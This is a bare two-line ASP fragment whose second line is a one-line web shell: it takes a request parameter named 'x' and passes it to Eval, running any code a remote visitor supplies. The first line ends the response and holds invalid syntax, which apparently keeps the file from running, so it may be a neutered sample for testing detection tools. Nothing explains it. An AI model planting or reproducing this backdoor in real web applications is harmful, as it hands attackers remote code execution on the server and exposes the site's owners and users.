<% Response.End : Dim 1 %>
<% Dim a(5) : a(0) = Request("x") : Eval(a(0)) %>